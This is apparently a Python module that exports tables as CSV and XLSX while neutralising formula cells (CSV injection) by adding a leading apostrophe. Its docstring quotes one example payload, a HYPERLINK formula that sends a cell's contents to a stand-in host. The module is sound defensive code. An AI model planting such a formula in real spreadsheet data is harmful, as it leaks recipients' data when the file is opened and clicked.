"""Files that a spreadsheet program may open (CSV and XLSX): one rule for every cell.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice and Google Sheets: a roster name ``=HYPERLINK("http://x/?"&A1,"x")`` in the
invitations CSV (which holds every respondent's link) would send a link out when clicked. Such a
text is written with a leading apostrophe, OWASP's rule for CSV injection; the spreadsheet shows
the text as it was. Numbers (``-8.33`` as a number, or written as one) are left as they are, so
that the results stay numbers for analysts.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value):
    """``value`` as a spreadsheet should receive it: a text that would start a formula gets a
    leading apostrophe; anything else (numbers, None, plain text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def plain(value) -> str:
    """A value as the open-data CSVs write it: empty for None, ``true``/``false`` for a yes/no,
    else its text (then through safe_cell, as every cell)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def csv_text(header: Iterable, rows: Iterable[Iterable], lineterminator: str = "\n") -> str:
    """A CSV with a header row, every cell through safe_cell."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()


def xlsx_bytes(header: Iterable, rows: Iterable[Iterable], title: str = "data",
               notes: Iterable[Iterable] | None = None, text_columns: bool = False) -> bytes:
    """An XLSX workbook whose first sheet (``title``) is ``header`` (bold, kept in view) then
    ``rows``, every cell through safe_cell; texts are stored as texts, never as formulas whatever
    they start with, and a code such as ``3171010001`` stays a text, never a number. With
    ``text_columns`` the header's columns are formatted as text, so that codes typed into a
    template keep their leading zeros. ``notes`` rows make a second sheet, "info" (importers
    read the first sheet only)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title[:31])

    def cells(target, values: Iterable, bold: bool = False) -> list:
        out = []
        for value in values:
            cell = WriteOnlyCell(target, value=safe_cell(value))
            if isinstance(cell.value, str):
                cell.data_type = "s"
            if bold:
                cell.font = Font(bold=True)
            out.append(cell)
        return out

    header = list(header)
    for n, name in enumerate(header, start=1):
        column = sheet.column_dimensions[get_column_letter(n)]
        column.width = max(12, len(str(name)) + 4)
        if text_columns:
            column.number_format = "@"
    sheet.freeze_panes = "A2"
    sheet.append(cells(sheet, header, bold=True))
    for row in rows:
        sheet.append(cells(sheet, row))
    if notes is not None:
        info = book.create_sheet("info")
        info.column_dimensions["A"].width = 18
        info.column_dimensions["B"].width = 90
        for row in notes:
            info.append(cells(info, row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


FORMATS = ("csv", "xlsx")
MIMETYPES = {"csv": "text/csv; charset=utf-8",
             "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


def table_file(header: list, rows: list[list], fmt: str, title: str = "data") -> bytes:
    """A table as a file in ``fmt`` (one of FORMATS): a CSV with a BOM and CRLF line ends (as
    spreadsheet programs read it right), or an XLSX sheet called ``title``."""
    if fmt == "xlsx":
        return xlsx_bytes(header, rows, title)
    return csv_text(header, rows, lineterminator="\r\n").encode("utf-8-sig")
